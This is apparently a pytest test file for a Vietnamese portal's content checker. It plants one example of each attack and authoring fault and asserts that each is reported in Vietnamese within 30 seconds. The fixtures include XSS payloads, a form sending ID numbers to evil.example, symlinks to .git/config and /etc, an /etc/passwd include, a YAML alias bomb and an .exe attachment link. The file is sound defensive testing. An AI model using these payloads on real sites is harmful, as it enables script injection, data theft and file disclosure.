"""`portal check` on a folder with one instance of every attack and fault kind (issues 12 and 13, "Done when").

Each is listed with its file (and line where there is one), in Vietnamese (the editors'
default), and the check exits non-zero within 30 s: no alias bomb, nesting or size
makes it hang.
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from ..conftest import MINI_SITES, REPO, make_project, write

SITE = "content/sites/xa-mot"
LIMITS = "  limits: {markdown_kb: 64, file_mb: 1, nesting: 8}\n  embed_origins: [https://video.tinh.example.vn]\n"

#: file → (line or None, a piece of its Vietnamese message)
EXPECTED: dict[str, list[tuple[int | None, str]]] = {
    "tin-tuc/html-tho.md": [(8, "không được đặt mã script"), (10, "thuộc tính sự kiện (onerror)"),
                            (12, "không được dùng liên kết dạng 'javascript:'"), (14, "nơi sites.yaml không cho phép"),
                            (16, "thẻ HTML <meta>"), (18, "không được định dạng riêng (style)"), (20, "không được đặt biểu mẫu"),
                            (22, "data-pagefind-meta do chức năng tìm kiếm")],
    "files/cfg.txt": [(None, "là liên kết tượng trưng (symlink)")],
    "files/etc": [(None, "là liên kết tượng trưng (symlink)")],
    "files/trang.svg": [(None, "tệp loại '.svg' không được xuất bản")],
    "files/lon.pdf": [(None, "vượt giới hạn 1 MB")],
    "tin-tuc/bao-cao.rst": [(None, "chỉ đọc các bài Markdown (.md)")],
    "tin-tuc/thong-bao.html": [(None, "chỉ đọc các bài Markdown (.md)")],
    "tin-tuc/bomb.md": [(3, "không được dùng neo và bí danh YAML")],
    "tin-tuc/danh-sach.md": [(6, "lồng nhau quá 8 cấp")],
    "tin-tuc/dan-tu-word.md": [(6, "ký tự điều khiển ẩn U+000B")],
    "tin-tuc/dai.md": [(None, "vượt giới hạn 64 KB")],
    "tin-tuc/trung-khoa.md": [(6, "'title' được khai báo hai lần")],
    "tin-tuc/tieu-de.md": [(2, "đặt tiêu đề trong dấu ngoặc kép")],
    "tin-tuc/tab.md": [(3, "dùng dấu cách, không dùng Tab")],
    "tin-tuc/ngay.md": [(3, "viết 2026-12-31")],
    "tin-tuc/chua-viet.md": [(6, "bài chưa có nội dung")],
    "tin-tuc/cap-mot.md": [(8, "trùng cấp với tiêu đề trang")],
    "tin-tuc/lien-ket.md": [(6, "liên kết 'bai-khong-co.md' không trỏ đến đâu cả"), (8, "khác nhau chữ hoa, chữ thường"),
                            (10, "được tải từ trang khác (https://tracker.example)")],
    "van-ban/qd-dinh-kem.md": [(6, "'files/khong-ton-tai.pdf' không trỏ đến đâu cả"), (6, "được tải từ trang khác (https://evil.example)")],
    "van-ban/qd-dai.md": [(2, "tiêu đề dài")],
    "pages/tim-kiem.md": [(2, "đã được dùng cho một chuyên mục hoặc cho chính cổng")],
    "tin-tuc/trung-b.md": [(2, "đã được dùng cho")],
    "tin-tuc/the-b.md": [(5, "sẽ dùng chung trang /tag/duong/")],
}


def attack_folder(root: Path) -> Path:
    make_project(root, MINI_SITES.replace("  maintainers: [\"@org/maint\"]\n", "  maintainers: [\"@org/maint\"]\n" + LIMITS))
    s = root / SITE
    head = "---\ntitle: \"{t}\"\ndate: 2026-01-05\ncategory: {c}\n---\n"
    write(s / "tin-tuc/bai-dau.md", head.format(t="Bài đầu", c="tin-tuc") + "Nội dung.\n")
    (s / "files").mkdir(parents=True)
    (s / "files/anh.jpg").write_bytes(b"\xff\xd8\xff")
    write(s / "tin-tuc/html-tho.md", head.format(t="HTML thô", c="tin-tuc") + "Nội dung.\n\n<script>alert(1)</script>\n\n"
          "<img src=\"files/anh.jpg\" alt=\"a\" onerror=\"alert(1)\">\n\n[Xem](javascript:alert(1))\n\n"
          "<iframe src=\"https://evil.example/\" title=\"x\"></iframe>\n\n<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\n\n"
          "<p style=\"display:none\">ẩn</p>\n\n<form action=\"https://evil.example/collect\"><input name=\"cccd\"></form>\n\n"
          "<div data-pagefind-meta=\"url:javascript:alert(1)\">x</div>\n")
    os.symlink("../../../../.git/config", s / "files/cfg.txt")
    os.symlink("/etc", s / "files/etc")
    (s / "files/trang.svg").write_text("<svg onload=\"alert(1)\"/>")
    (s / "files/lon.pdf").write_bytes(b"%PDF" + b"x" * (1024 * 1024))
    write(s / "tin-tuc/bao-cao.rst", "Báo cáo\n#######\n\n.. include:: /etc/passwd\n")
    write(s / "tin-tuc/thong-bao.html", "<html><head><meta name=\"save_as\" content=\"index.html\"></head><body>x</body></html>\n")
    write(s / "tin-tuc/bomb.md", "---\ntitle: \"Bomb\"\ndate: [&a [lol,lol,lol,lol,lol,lol,lol,lol,lol], &b [*a,*a,*a,*a,*a,*a,*a,*a,*a], "
          "&c [*b,*b,*b,*b,*b,*b,*b,*b,*b], &d [*c,*c,*c,*c,*c,*c,*c,*c,*c], [*d,*d,*d,*d,*d,*d,*d,*d,*d]]\ncategory: tin-tuc\n---\nx\n")
    write(s / "tin-tuc/danh-sach.md", head.format(t="Danh sách", c="tin-tuc") + "- " * 10_000 + "a\n")
    write(s / "tin-tuc/dan-tu-word.md", head.format(t="Dán từ Word", c="tin-tuc") + "Dòng một\x0bDòng hai\n")
    write(s / "tin-tuc/dai.md", head.format(t="Bài rất dài", c="tin-tuc") + "Lặp lại. " * 8000 + "\n")
    write(s / "tin-tuc/trung-khoa.md", "---\ntitle: \"Tiêu đề đã duyệt\"\ndate: 2026-01-05\ncategory: tin-tuc\nstatus: draft\ntitle: \"Khác\"\n---\nx\n")
    write(s / "tin-tuc/tieu-de.md", "---\ntitle: Hội nghị: tổng kết năm\ndate: 2026-01-05\ncategory: tin-tuc\n---\nx\n")
    write(s / "tin-tuc/tab.md", "---\ntitle: \"Có Tab\"\n\tdate: 2026-01-05\ncategory: tin-tuc\n---\nx\n")
    write(s / "tin-tuc/ngay.md", "---\ntitle: \"Ngày viết kiểu Việt\"\ndate: 31/12/2026\ncategory: tin-tuc\n---\nx\n")
    write(s / "tin-tuc/chua-viet.md", "---\ntitle: \"Chưa viết\"\ndate: 2026-01-05\ncategory: tin-tuc\n---\n"
          "<!-- Viết nội dung ở đây. Tiêu đề mục bắt đầu bằng ##; ảnh cần mô tả: ![Mô tả](files/anh.jpg) -->\n")
    write(s / "tin-tuc/cap-mot.md", head.format(t="Cấp một", c="tin-tuc") + "Mở đầu.\n\n# Mục lớn\n")
    write(s / "tin-tuc/lien-ket.md", head.format(t="Liên kết", c="tin-tuc") + "[Bài](bai-khong-co.md)\n\n![Ảnh](files/Anh.jpg)\n\n"
          "![Ảnh](https://tracker.example/pixel.gif)\n")
    write(s / "van-ban/qd-dinh-kem.md", "---\ntitle: \"Quyết định có tệp đính kèm\"\ndate: 2026-01-05\ncategory: van-ban\nnumber: \"01/QĐ-UBND\"\n"
          "attachments: [\"files/khong-ton-tai.pdf\", \"//evil.example/cap-nhat.exe\"]\n---\nx\n")
    write(s / "van-ban/qd-dai.md", head.format(t="Quyết định " * 60, c="van-ban") + "x\n")
    write(s / "pages/tim-kiem.md", "---\ntitle: Tìm kiếm\n---\nx\n")
    write(s / "tin-tuc/trung-a.md", head.format(t="Cùng một tiêu đề", c="tin-tuc") + "x\n")
    write(s / "tin-tuc/trung-b.md", head.format(t="Cùng một tiêu đề", c="tin-tuc") + "x\n")
    write(s / "tin-tuc/the-a.md", "---\ntitle: \"Thẻ A\"\ndate: 2026-01-05\ncategory: tin-tuc\ntags: [Đường]\n---\nx\n")
    write(s / "tin-tuc/the-b.md", "---\ntitle: \"Thẻ B\"\ndate: 2026-01-05\ncategory: tin-tuc\ntags: [Duong]\n---\nx\n")
    return root


@pytest.fixture(scope="module")
def checked(tmp_path_factory) -> tuple[int, float, list[str]]:
    root = attack_folder(tmp_path_factory.mktemp("attacks") / "proj")
    env = {**os.environ, "PORTAL_LANG": "vi", "PYTHONPATH": str(REPO / "scripts")}
    start = time.perf_counter()
    res = subprocess.run([sys.executable, "-m", "portal.cli", "--root", str(root), "check"], capture_output=True, text=True,
                         env=env, timeout=60)
    return res.returncode, time.perf_counter() - start, res.stderr.splitlines()


def test_check_exits_non_zero_within_30_seconds(checked):
    status, seconds, _lines = checked
    assert status == 1 and seconds < 30


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_every_attack_and_fault_is_listed_with_file_line_in_vietnamese(checked, name):
    _status, _seconds, lines = checked
    for line, needle in EXPECTED[name]:
        where = f"{SITE}/{name}:{line}: " if line else f"{SITE}/{name}: "
        assert any(x.startswith(where) and needle in x for x in lines), (where, needle, [x for x in lines if name in x])


def test_a_good_post_beside_them_is_not_reported(checked):
    assert not any("bai-dau.md" in x or "anh.jpg:" in x for x in checked[2])
